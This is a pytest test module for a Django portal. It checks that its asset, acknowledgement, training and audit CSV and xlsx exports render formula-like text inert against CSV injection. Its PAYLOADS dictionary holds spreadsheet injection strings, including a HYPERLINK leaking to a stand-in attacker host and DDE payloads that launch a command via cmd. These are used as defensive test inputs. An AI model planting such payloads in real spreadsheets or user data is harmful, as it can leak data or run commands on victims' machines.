"""Every CSV and xlsx the portal writes keeps formula-like text inert (CSV injection).

A display name, a title or a department name starting with `=`, `+`, `-`, `@`, a tab or a
carriage return would run as a formula when the file is opened in a spreadsheet. Each
export writes it, in CSV, with a leading apostrophe (Excel hides it), and in xlsx as a
string cell, never a formula.
"""

import csv
import datetime
import io
import zipfile

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from audits import services as audit_services
from isms.eras import fiscal_year
from training.models import Course
from training.services import publish_course

from .audit_helpers import open_cycle

PAYLOADS = {
    "equals": '=HYPERLINK("http://attacker.invalid/?leak","click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
}


def body(response):
    assert response.status_code == 200, response
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_cells(data):
    text = data.decode("utf-8")
    assert text.startswith("\ufeff")
    return [cell for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"))) for cell in row]


def xlsx_cells(data):
    workbook = load_workbook(io.BytesIO(data))
    return [cell for row in workbook.worksheets[0].iter_rows() for cell in row]


# Each export: plant(payload, people, org, make_asset) -> (client role, URL, query).


def asset_export(output):
    def plant(payload, people, org, make_asset, **_):
        make_asset("joho", name=payload)
        return "chief", "/assets/export/", {"output": output}

    return plant


def asset_api_export(output):
    def plant(payload, people, org, make_asset, **_):
        make_asset("joho", name=payload)
        return "chief", "/api/assets/export/", {"output": output}

    return plant


def acknowledgement_status(payload, people, org, request, **_):
    standard = request.getfixturevalue("standard")  # the documents: only this export needs them
    people["staff"].display_name = payload
    people["staff"].save(update_fields=["display_name"])
    return "head", f"/acknowledgements/status/{standard.pk}/", {"export": "csv"}


def training_status(output):
    def plant(payload, people, org, **_):
        people["staff"].display_name = payload
        people["staff"].save(update_fields=["display_name"])
        today = timezone.localdate()
        course = Course.objects.create(
            title="研修",
            content="本文",
            fiscal_year=fiscal_year(today),
            deadline=today + datetime.timedelta(days=30),
            created_by=people["admin"],
        )
        publish_course(course, by=people["admin"])
        return "head", "/training/status/", {"course": course.pk, "output": output}

    return plant


def audit_report(output):
    def plant(payload, people, org, **_):
        org["somu"].name = payload
        org["somu"].save(update_fields=["name"])
        cycle = open_cycle(people, [org["somu"]])
        audit_services.assign_auditor(cycle, org["somu"], people["auditor"], by=people["admin"])
        return "auditor", f"/audits/cycles/{cycle.pk}/report/", {"output": output}

    return plant


EXPORTS = {
    "assets page csv": ("csv", asset_export("csv")),
    "assets page xlsx": ("xlsx", asset_export("xlsx")),
    "assets api csv": ("csv", asset_api_export("csv")),
    "assets api xlsx": ("xlsx", asset_api_export("xlsx")),
    "acknowledgement status csv": ("csv", acknowledgement_status),
    "training status csv": ("csv", training_status("csv")),
    "training status xlsx": ("xlsx", training_status("xlsx")),
    "audit report csv": ("csv", audit_report("csv")),
    "audit report xlsx": ("xlsx", audit_report("xlsx")),
}


@pytest.mark.parametrize("payload", list(PAYLOADS))
@pytest.mark.parametrize("export", list(EXPORTS))
def test_formula_like_text_is_written_inert_by_every_export(
    export, payload, people, org, make_asset, request, client, api_as, settings, tmp_path
):
    settings.MEDIA_ROOT = tmp_path / "media"
    text = PAYLOADS[payload]
    output, plant = EXPORTS[export]
    role, url, query = plant(text, people=people, org=org, make_asset=make_asset, request=request)
    if url.startswith("/api/"):
        response = api_as(role).get(url, query)
    else:
        client.force_login(people[role])
        response = client.get(url, query)
    data = body(response)

    if output == "csv":
        cells = [cell for cell in csv_cells(data) if text in cell]
        assert cells, "the export holds the planted text"
        assert all(cell == "'" + text for cell in cells), cells
    else:
        # XML reads a carriage return back as a line feed; either is plain text in a cell.
        text = text.replace("\r", "\n")
        cells = [
            cell for cell in xlsx_cells(data) if isinstance(cell.value, str) and text in cell.value
        ]
        assert cells, "the export holds the planted text"
        for cell in cells:
            assert cell.data_type == "s", (cell.coordinate, cell.data_type)
            assert cell.value == text
        sheet = next(n for n in zipfile.ZipFile(io.BytesIO(data)).namelist() if "worksheets/" in n)
        assert b"<f>" not in zipfile.ZipFile(io.BytesIO(data)).read(sheet), "no formula at all"
